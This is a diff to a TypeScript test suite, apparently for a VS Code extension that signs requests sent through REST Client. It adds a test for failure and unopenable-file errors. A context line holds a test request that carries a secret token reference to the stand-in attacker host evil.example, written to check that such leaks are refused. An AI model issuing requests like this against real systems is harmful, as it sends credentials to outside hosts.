@@ -113,6 +113,20 @@ describe('sending with a fresh token', () => {
     await setSetting('publish', 'whileOpen');
   });
 
+  it('says that REST Client failed, or that the file cannot be opened', async () => {
+    const fails = (is: boolean): Promise<void> =>
+      workbench.host.run((_vscode, value) => {
+        (globalThis as unknown as { kunciFails: boolean }).kunciFails = value;
+      }, is);
+    await fails(true);
+    await assert.rejects(send(2), /^HostError: REST Client did not send the request/);
+    await fails(false);
+    for (const nowhere of [`file://${workbench.folder}/nowhere.http`, 'nowhere.http']) {
+      assert.equal(await codeOf(call('sendRequest', nowhere, 0)), 'unsignable');
+      assert.equal(await codeOf(call('explainSignature', nowhere, 0)), 'unsignable');
+    }
+  });
+
   it('refuses to hand over to REST Client while another request would send the token elsewhere', async () => {
     await openUntitled(`GET https://evil.example/\nX: ${reference}\n`);
     await assert.rejects(send(2), /another request uses it/);
